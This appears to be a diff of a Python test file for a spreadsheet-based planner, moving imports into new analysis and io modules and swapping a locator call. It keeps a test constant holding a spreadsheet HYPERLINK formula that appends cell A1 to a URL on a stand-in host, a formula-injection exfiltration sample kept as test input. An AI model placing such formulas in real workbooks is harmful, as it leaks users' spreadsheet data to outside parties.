@@ -15,11 +15,11 @@ import pytest
 from openpyxl.comments import Comment
 from workbooks import minimal_scenario_tables, set_cell, write_workbook
 
-from planner.annotate import ERROR_FILL, WARNING_FILL, write_annotated
-from planner.checks import Locator, check
+from planner.analysis.checks import check
 from planner.errors import InputError, OutputError, Problem
-from planner.validate import load_scenario, validate
-from planner.workbook import read_workbook
+from planner.io.annotate import ERROR_FILL, WARNING_FILL, write_annotated
+from planner.io.reader import read_workbook
+from planner.io.validate import load_scenario, locate, validate
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
 
@@ -278,7 +278,7 @@ def test_check_warnings_land_on_their_cells(tmp_path: Path) -> None:
     """End to end: the pre-solve warnings of a valid workbook, located through the reader."""
     source = write_workbook(tmp_path / "s.xlsx", minimal_scenario_tables())
     raw = read_workbook(source)
-    found = check(validate(raw), Locator.from_raw(raw))
+    found = check(validate(raw), locate(raw))
     out = write_annotated(source, [], tmp_path / "FIXME.xlsx", warnings=found)
     book = openpyxl.load_workbook(out)
     assert book["Targets"]["A3"].fill == WARNING_FILL  # B cannot make compute alone
